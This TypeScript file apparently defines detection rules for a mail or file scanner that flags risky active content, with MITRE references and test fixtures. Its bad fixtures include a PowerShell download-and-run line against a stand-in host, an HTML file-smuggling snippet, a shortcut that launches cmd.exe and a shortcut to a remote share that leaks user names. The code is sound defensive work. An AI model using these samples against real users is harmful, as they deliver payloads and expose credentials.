// Findings about small files that act: shortcuts, scripts, pages that carry files, drawings with scripts, pictures with something
// behind them. By the flags of lib/content/inspect.
import { writePng } from "#lib/content/inspect/examples/image.ts";
import { windowsProgram } from "#lib/content/inspect/examples/programs.ts";
import { writeShortcut } from "#lib/content/inspect/examples/shortcut.ts";
import { writeZip } from "#lib/content/inspect/examples/write-zip.ts";
import { listed, retold, say } from "#lib/text/say.ts";
import type { Rule } from "../rule.ts";
import { type ExampleFile, type FlagRow, flagRule } from "./flag-rule.ts";

const data = Buffer.alloc(3_000, "PK\x03\x04abcdefgh", "latin1").toString("base64");
const page = (script: string): ExampleFile[] => [
  ["a.html", `<html><body><script>${script}</script></body></html>`, "text/html"],
];
const plainPage = (): ExampleFile[] => page("var a = 1");
const svg = (inside: string): ExampleFile[] => [
  ["a.svg", `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`, "image/svg+xml"],
];

export const activeFileRows: readonly FlagRow[] = [
  {
    id: "shortcut-runs-command",
    severity: "danger",
    ref: "https://attack.mitre.org/techniques/T1204/002/",
    title: "A shortcut that runs a command",
    innocent: null,
    advice: "Do not open it.",
    says: (files, details) => say`${files} looks like a document and starts ${details}.`,
    bad: () => [["a.lnk", writeShortcut("C:\\Windows\\System32\\cmd.exe", "/c calc")]],
    good: () => [["a.lnk", writeShortcut("C:\\Program Files\\Editor\\editor.exe")]],
  },
  {
    id: "html-smuggling",
    severity: "danger",
    ref: "https://attack.mitre.org/techniques/T1027/006/",
    title: "A page that hands over a file hidden in it",
    innocent: "Some services for encrypted mail work so.",
    advice: "Do not open the page, and never the file that it offers.",
    says: (files, details) => say`${files} builds a file from its own text and saves it: ${details}.`,
    bad: () => page(`var b=new Blob([atob("${data}")]);a.href=URL.createObjectURL(b);a.download="order.zip"`),
    good: plainPage,
  },
  {
    id: "html-writes-itself",
    severity: "warning",
    ref: "https://attack.mitre.org/techniques/T1027/",
    title: "A page that writes itself from text nobody can read",
    innocent: "Some services for encrypted mail and some old page builders work so.",
    advice: "Never type a password into it.",
    says: (files, details) => say`${files} decodes a long text and shows the result: ${details}.`,
    bad: () => page(`document.write(unescape("${"%3c".repeat(900)}"))`),
    good: plainPage,
  },
  {
    id: "script-acts",
    severity: "warning",
    ref: "https://attack.mitre.org/techniques/T1059/",
    title: "A script that starts programs or loads files",
    innocent: "Administrators send each other scripts.",
    advice: "Do not start it unless you have read it.",
    says: (files, details) => say`${files} calls ${details}.`,
    bad: () => [["a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://example.test/')"]],
    good: () => [["a.ps1", "Get-Date"]],
  },
  {
    id: "shortcut-to-server",
    codes: ["shortcut-to-server", "shortcut-carries-data"],
    severity: "warning",
    ref: "https://attack.mitre.org/techniques/T1187/",
    title: "A shortcut that leads to a server, or carries more than itself",
    innocent: "Offices send each other links to their own shared folders.",
    advice: "Do not open it unless you know the server: it learns your user name, and may hand you a program.",
    says: (files, details) => say`${files} leads to, or carries, ${details}.`,
    bad: () => [["a.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.lnk\r\n"]],
    good: () => [["a.url", "[InternetShortcut]\r\nURL=https://example.com/\r\n"]],
  },
  {
    id: "svg-script",
    severity: "warning",
    ref: "https://www.w3.org/TR/SVG2/interact.html",
    title: "A drawing that runs scripts",
    innocent: "Charts that can be unfolded are drawn so.",
    advice: "Look at it in the mail only; in a browser its scripts run.",
    says: (files, details) => say`${files} holds ${details}.`,
    bad: () => svg("<script>1</script>"),
    good: () => svg("<rect/>"),
  },
  {
    id: "svg-page",
    codes: ["svg-foreign-content", "xml-entities"],
    severity: "notice",
    ref: "https://www.w3.org/TR/SVG2/embedded.html",
    title: "A drawing with a page or entities in it",
    innocent: "Drawing programs embed text so.",
    advice: null,
    says: (files, details) => say`${files} holds ${details}.`,
    bad: () => svg("<foreignObject><p>Hi</p></foreignObject>"),
    good: () => svg("<rect/>"),
  },
  {
    id: "file-behind-picture",
    severity: "warning",
    ref: "https://attack.mitre.org/techniques/T1027/003/",
    title: "A picture with another file behind it",
    innocent: null,
    advice: "Look at the picture here; do not open the file.",
    says: (files, details) => say`${files} goes on behind the end of the picture: ${details}.`,
    bad: () => [["a.png", Buffer.concat([writePng(4, 3), writeZip([{ name: "a.txt" }])]), "image/png"]],
    good: () => [["a.png", writePng(4, 3), "image/png"]],
  },
  {
    id: "program-compressed",
    severity: "notice",
    ref: "https://attack.mitre.org/techniques/T1027/002/",
    title: "A program packed by another program",
    innocent: "Small tools are packed to be smaller.",
    advice: null,
    says: (files, details) => say`${files} has sections that packers write: ${details}.`,
    bad: () => [["a.exe", windowsProgram({ sections: ["UPX0", "UPX1"] })]],
    good: () => [["a.exe", windowsProgram()]],
  },
];

/** The name and the content of a file do not go together; programs under other names have a finding of their own. */
const nameContradicted: Rule = {
  id: "name-contradicted",
  severity: "notice",
  ref: "RFC 2183 §5",
  title: "A file that is not what its name says",
  innocent: "People rename files, and programs guess.",
  advice: "Look at what it is by content before you open it.",
  find: ({ parts }) => {
    const hit = parts.filter(
      ({ details }) => details?.types && details.types.disagree !== "declared" && !isPicture(details.types),
    );
    if (hit.length === 0) return null;
    const told = hit.slice(0, 3).map(({ details }) => retold(details!.types!.explanation));
    return { at: hit.map(({ path }) => ({ part: path })), detail: listed(told, " ") };
  },
  get bad() {
    return flagRule({ ...activeFileRows[0]!, bad: () => [["a.jpg", writeZip([{ name: "a.txt" }])]] }).bad;
  },
  get good() {
    return flagRule({
      ...activeFileRows[0]!,
      good: () => [
        ["a.zip", writeZip([{ name: "a.txt" }])],
        ["a.jpg", writePng(4, 3), "image/jpeg"],
      ],
    }).good;
  },
};

/** One kind of picture under the name of another harms nobody. */
const isPicture = ({ byName, byContent }: { byName: string | null; byContent: string | null }): boolean =>
  byName === "picture" && (byContent ?? "").startsWith("image/");

export const activeFileRules: readonly Rule[] = [...activeFileRows.map(flagRule), nameContradicted];
